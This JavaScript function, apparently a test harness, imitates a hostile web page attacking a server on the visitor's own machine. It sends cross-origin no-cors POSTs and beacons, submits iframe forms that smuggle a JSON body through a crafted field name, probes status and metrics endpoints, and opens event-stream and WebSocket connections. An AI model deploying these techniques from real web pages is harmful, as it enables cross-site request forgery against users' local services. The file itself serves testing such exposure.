/** What a page of another site does to a server of this machine; what it could read is told. */
window.attack = async (server, route, text) => {
  const seen = [];
  const note = (how, what) => seen.push(`${how}: ${String(what)}`);
  const target = `${server}${route}`;
  const reading = ['/status', '/openapi.json', '/metrics', '/healthz', '/images', '/health'];
  for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'text/plain; x=application/json']) {
    const sent = { method: 'POST', headers: { 'content-type': type }, body: text };
    await fetch(target, { ...sent, mode: 'no-cors' }).catch(() => undefined);
    await fetch(target, { ...sent, mode: 'no-cors', credentials: 'include' }).catch(() => undefined);
  }
  for (const headers of [{ 'content-type': 'application/json' }, { authorization: 'Bearer x' }])
    await fetch(target, { method: 'POST', headers, body: text }).then(
      (answer) => note('cors', answer.status),
      () => undefined,
    );
  await fetch(target, { method: 'POST', mode: 'no-cors', body: new Blob([text]) }).catch(() => undefined);
  navigator.sendBeacon(target, text);
  navigator.sendBeacon(target, new Blob([text], { type: 'application/json' }));
  for (const path of reading)
    await fetch(`${server}${path}`).then(
      async (answer) => note(path, await answer.text()),
      () => undefined,
    );
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
    const frame = document.createElement('iframe');
    frame.name = `frame-${enctype}`;
    const form = document.createElement('form');
    Object.assign(form, { action: target, method: 'post', enctype, target: frame.name });
    const field = document.createElement('input');
    // As plain text the form is JSON.
    Object.assign(field, { name: `${text.slice(0, -1)},"x":"`, value: '"}' });
    form.append(field);
    document.body.append(frame, form);
    await new Promise((done) => {
      frame.onload = done;
      form.submit();
    });
  }
  const load = (tag, path) =>
    new Promise((done) => {
      const element = document.createElement(tag);
      element.onload = () => done(note(tag, 'loaded'));
      element.onerror = () => done();
      element.src = `${server}${path}`;
      document.body.append(element);
    });
  for (const path of reading) await Promise.all([load('img', path), load('script', path)]);
  await new Promise((done) => {
    const source = new EventSource(target);
    source.onopen = () => note('events', 'open');
    source.onerror = () => {
      source.close();
      done();
    };
  });
  await new Promise((done) => {
    const socket = new WebSocket(target.replace('http', 'ws'));
    socket.onopen = () => note('socket', 'open');
    socket.onclose = () => done();
  });
  return seen;
};
